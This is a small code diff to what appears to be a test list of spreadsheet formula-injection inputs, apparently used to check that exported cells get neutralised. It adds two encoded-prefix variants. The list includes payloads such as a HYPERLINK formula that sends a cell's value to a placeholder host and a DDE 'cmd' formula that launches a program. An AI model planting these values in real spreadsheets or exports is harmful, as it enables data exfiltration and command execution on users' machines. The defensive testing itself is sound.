@@ -41,7 +41,7 @@ CLEANED = [   # profile, text, as written, why
 ]
 B34_B35 = [   # reliability reference, B34 and B35: every one gets the lead
     '=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '"=1+1"', " =1", "\uff1d1+1",
-    "%0A=1", ";=1", ";@", "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "'=1", "|calc", "\n", "\0",
+    "%0A=1", "%0D=1", "%09=1", ";=1", ";@", "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "'=1", "|calc", "\n", "\0",
 ]
 
 
